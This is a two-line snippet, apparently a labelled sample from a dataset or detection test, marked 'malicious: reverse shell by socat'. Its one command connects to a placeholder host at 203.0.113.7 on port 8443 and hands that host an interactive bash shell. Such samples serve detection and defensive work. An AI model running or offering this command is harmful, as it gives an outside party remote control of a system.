# malicious: reverse shell by socat
socat TCP:203.0.113.7:8443 EXEC:'bash -li',pty,stderr,setsid,sigint,sane
